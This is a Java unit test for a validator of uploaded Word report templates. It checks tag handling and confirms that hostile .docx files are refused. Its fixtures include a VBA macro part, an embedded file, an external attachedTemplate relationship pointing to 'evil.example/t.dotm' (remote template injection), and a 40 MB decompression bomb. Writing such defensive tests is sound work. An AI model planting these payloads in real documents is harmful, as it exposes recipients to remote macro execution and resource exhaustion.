package org.shouyue.server.report;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.HashMap;
import java.util.Map;
import java.util.function.Consumer;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import org.apache.poi.xwpf.extractor.XWPFWordExtractor;
import org.apache.poi.xwpf.usermodel.XWPFDocument;
import org.apache.poi.xwpf.usermodel.XWPFParagraph;
import org.junit.jupiter.api.Test;
import org.shouyue.server.problem.Problem;

/// Templates as people send them: changed by POI as Word would, and hostile ones.
class TemplateCheckTest {
  private static final Typefaces TYPEFACES = new Typefaces();
  private static final TemplateCheck CHECK = new TemplateCheck(TYPEFACES);

  @Test
  void takesTheShippedTemplate() {
    assertThat(CHECK.check(WordTemplate.shipped())).isEmpty();
  }

  @Test
  void takesAChangedTemplateAndUsesIt() throws IOException {
    byte[] changed =
        changed(word -> {
          XWPFParagraph added = word.createParagraph();
          added.createRun().setText("主讲人：{{主讲人}}　经办处室：信息中心");
        });

    assertThat(CHECK.check(changed)).containsExactly("主讲人");
    DrawnPaper drawn = PaperFilesTest.sample("钓鱼邮件防范培训记录");
    byte[] file = new DocxRenderer(changed, TYPEFACES).render(Manuscript.of(drawn));
    try (var document = new XWPFDocument(new ByteArrayInputStream(file));
        var text = new XWPFWordExtractor(document)) {
      assertThat(text.getText()).contains("主讲人：王工　经办处室：信息中心", "本次培训十二人到场。");
    }
  }

  @Test
  void tellsUnknownTagsWithTheKnownOnes() throws IOException {
    byte[] changed = changed(word -> word.createParagraph().createRun().setText("{{titel}}"));

    refused(changed, "{{titel}}", "title", "sections");
  }

  @Test
  void wantsAPlaceForTheChapters() throws IOException {
    try (var word = new XWPFDocument()) {
      word.createParagraph().createRun().setText("{{title}}");
      refused(bytes(word), "{{?sections}}");
    }
  }

  @Test
  void refusesAnUnclosedBlock() throws IOException {
    byte[] changed = changed(word -> word.createParagraph().createRun().setText("{{?prose}}"));

    assertThatThrownBy(() -> CHECK.check(changed)).isInstanceOf(Problem.class);
  }

  @Test
  void refusesWhatIsNoDocument() {
    refused("不是文档".getBytes(StandardCharsets.UTF_8), "docx");
    refused(zip(Map.of("a.txt", new byte[3])), "docx");
    refused(new byte[TemplateCheck.LARGEST + 1], "2 MB");
  }

  @Test
  void refusesMacrosEmbeddedFilesAndLinksThatWordFollows() {
    refused(with("word/vbaProject.bin", new byte[8]), "宏");
    refused(with("word/embeddings/a.xlsx", new byte[8]), "嵌入");
    refused(
        with(
            "word/_rels/settings.xml.rels",
            ("<Relationships><Relationship Id=\"r\" Type=\"http://x/attachedTemplate\""
                    + " Target=\"http://evil.example/t.dotm\" TargetMode=\"External\"/>"
                    + "</Relationships>")
                .getBytes(StandardCharsets.UTF_8)),
        "外部");
  }

  @Test
  void refusesABomb() {
    refused(with("word/media/a.bmp", new byte[40 * 1024 * 1024]), "炸弹");
  }

  private static void refused(byte[] file, String... words) {
    assertThatThrownBy(() -> CHECK.check(file))
        .isInstanceOfSatisfying(
            Problem.class, problem -> assertThat(problem.getMessage()).contains(words));
  }

  private static byte[] changed(Consumer<XWPFDocument> change) throws IOException {
    try (var word = new XWPFDocument(new ByteArrayInputStream(WordTemplate.shipped()))) {
      change.accept(word);
      return bytes(word);
    }
  }

  private static byte[] bytes(XWPFDocument word) throws IOException {
    var out = new ByteArrayOutputStream();
    word.write(out);
    return out.toByteArray();
  }

  private static byte[] with(String name, byte[] content) {
    Map<String, byte[]> entries = new HashMap<>();
    entries.put("word/document.xml", new byte[0]);
    entries.put(name, content);
    return zip(entries);
  }

  private static byte[] zip(Map<String, byte[]> entries) {
    var out = new ByteArrayOutputStream();
    try (var zip = new ZipOutputStream(out)) {
      for (Map.Entry<String, byte[]> entry : entries.entrySet()) {
        zip.putNextEntry(new ZipEntry(entry.getKey()));
        zip.write(entry.getValue());
        zip.closeEntry();
      }
    } catch (IOException impossible) {
      throw new IllegalStateException(impossible);
    }
    return out.toByteArray();
  }
}
